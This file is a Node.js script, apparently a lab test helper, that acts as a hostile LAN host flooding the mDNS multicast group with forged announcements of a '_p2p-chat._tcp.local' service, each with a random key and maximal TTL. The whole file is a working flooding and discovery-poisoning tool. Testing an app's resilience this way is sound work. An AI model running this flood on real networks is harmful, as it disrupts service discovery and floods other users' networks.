// A hostile host on the LAN (run inside a lab namespace): floods the mDNS group with
// announcements of `_p2p-chat._tcp.local`, each for a new random key, from every source address
// given, for SECONDS. Prints how many packets it sent. Usage:
//   node mdns-flood.mjs SECONDS SOURCE_IP...
import dgram from 'node:dgram';
import { randomBytes } from 'node:crypto';

const [seconds, ...sources] = process.argv.slice(2);
const until = Date.now() + Number(seconds) * 1000;

/** A DNS name in wire format, uncompressed. */
function name(text) {
  const parts = text.split('.').map((label) => {
    const bytes = Buffer.from(label);
    return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  });
  return Buffer.concat([...parts, Buffer.from([0])]);
}

function record(owner, type, ttl, data) {
  const head = Buffer.alloc(10);
  head.writeUInt16BE(type, 0);
  head.writeUInt16BE(1, 2); // class IN
  head.writeUInt32BE(ttl, 4);
  head.writeUInt16BE(data.length, 8);
  return Buffer.concat([name(owner), head, data]);
}

/** One complete announcement (PTR, SRV, TXT, A) of a fresh key, with the largest TTL. */
function announcement(ip) {
  const key = randomBytes(32).toString('base64url');
  const instance = `${key}._p2p-chat._tcp.local`;
  const host = `p2p-${randomBytes(6).toString('hex')}.local`;
  const srv = Buffer.concat([Buffer.from([0, 0, 0, 0, 0x17, 0x70]), name(host)]);
  const text = Buffer.from(`name=flood ${key.slice(0, 6)}`);
  const txt = Buffer.concat([Buffer.from([text.length]), text]);
  const header = Buffer.from([0, 0, 0x84, 0, 0, 0, 0, 1, 0, 0, 0, 3]);
  const ttl = 0x7fffffff;
  return Buffer.concat([
    header,
    record('_p2p-chat._tcp.local', 12, ttl, name(instance)),
    record(instance, 33, ttl, srv),
    record(instance, 16, ttl, txt),
    record(host, 1, ttl, Buffer.from(ip.split('.').map(Number))),
  ]);
}

let sent = 0;
const sockets = await Promise.all(sources.map((ip) => new Promise((resolve) => {
  const socket = dgram.createSocket({ type: 'udp4', reuseAddr: true });
  socket.bind(0, ip, () => {
    socket.setMulticastInterface(ip);
    resolve({ socket, ip });
  });
})));

function burst() {
  if (Date.now() >= until) {
    for (const { socket } of sockets) socket.close();
    console.log(sent);
    return;
  }
  let pending = 0;
  for (const { socket, ip } of sockets) {
    for (let i = 0; i < 20; i += 1) {
      pending += 1;
      socket.send(announcement(ip), 5353, '224.0.0.251', () => {
        sent += 1;
        pending -= 1;
        if (pending === 0) setImmediate(burst);
      });
    }
  }
}
burst();
